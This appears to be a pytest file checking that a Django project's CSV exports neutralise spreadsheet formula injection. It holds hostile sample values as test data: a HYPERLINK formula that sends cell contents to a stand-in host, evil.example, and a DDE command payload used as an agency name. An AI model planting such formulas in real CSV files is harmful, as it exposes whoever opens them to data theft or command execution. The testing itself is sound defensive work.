"""Every CSV the project writes neutralises formula cells, through one writer (SECURITY.md 27)."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from agencies import csvfiles
from agencies.pages import current_closed_month
from feedback.releases import releases_run
from tests.factories import AgencyFactory, DistrictFactory, feedback_with_answers

ROOT = Path(__file__).resolve().parent.parent
PROJECT_PACKAGES = ["agencies", "feedback", "surveys", "openpolicing"]
# Anything that builds CSV text other than through agencies.csvfiles.
RAW_WRITER = re.compile(
    r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(|from\s+csv\s+import\s+[^\n]*\b(writer|DictWriter)\b"
)
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_prefix_is_neutralised(prefix):
    text = csvfiles.to_csv(["cell"], [[prefix + "1+1"]])
    (value,) = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert value == "'" + prefix + "1+1"


def test_numbers_and_ordinary_text_are_left_alone():
    text = csvfiles.to_csv(["a", "b", "c", "d"], [[-3, -1.5, "North", "O'Brien"]])
    assert text.splitlines()[1] == "-3,-1.5,North,O'Brien"


def test_no_module_writes_csv_without_the_safe_writer():
    offenders = []
    for package in PROJECT_PACKAGES:
        for path in (ROOT / package).rglob("*.py"):
            if path == ROOT / "agencies" / "csvfiles.py":
                continue
            if RAW_WRITER.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], f"write CSV with agencies.csvfiles, not csv.writer: {offenders}"


def test_the_guard_itself_catches_a_raw_writer():
    assert RAW_WRITER.search("w = csv.writer(out)")
    assert RAW_WRITER.search("w = csv.DictWriter(out, fieldnames=f)")
    assert RAW_WRITER.search("from csv import reader, writer")
    assert not RAW_WRITER.search("rows = csv.reader(stream)")


@pytest.mark.django_db
def test_open_data_agency_names_are_neutralised(client):
    agency = AgencyFactory(name="=cmd|' /C calc'!A0", slug="evil")
    district = DistrictFactory(agency=agency, name="@SUM(1+1)")
    for _ in range(12):
        feedback_with_answers(
            agency=agency, district=district, interaction_month=current_closed_month()
        )
    releases_run()
    for table in ("blocks", "scores", "distributions", "response_rates", "questions"):
        response = client.get(reverse("agencies:table_csv", args=[agency.slug, table]))
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
        assert cells, table
        assert not [c for c in cells if c and c[0] in "=+-@\t\r"], table
    scores = client.get(reverse("agencies:table_csv", args=[agency.slug, "scores"]))
    assert "'=cmd|' /C calc'!A0" in scores.content.decode()
